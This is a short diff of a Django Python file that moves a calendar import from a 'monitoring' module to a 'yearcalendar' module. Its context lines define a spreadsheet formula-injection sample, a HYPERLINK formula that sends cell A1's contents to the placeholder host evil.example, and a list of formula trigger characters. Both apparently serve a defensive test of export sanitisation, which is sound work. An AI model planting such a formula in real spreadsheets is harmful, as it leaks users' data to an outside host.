@@ -12,11 +12,11 @@ from django.urls import reverse
 
 from audit import services as audit
 from medk.lib import excel
-from monitoring import calendar as cal
 from monitoring.models import Report
 from monitoring.services import reports
 from schools import exporting
 from schools.importing import coordinators, reader
+from yearcalendar import services as cal
 
 HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Подробнее")'
 TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
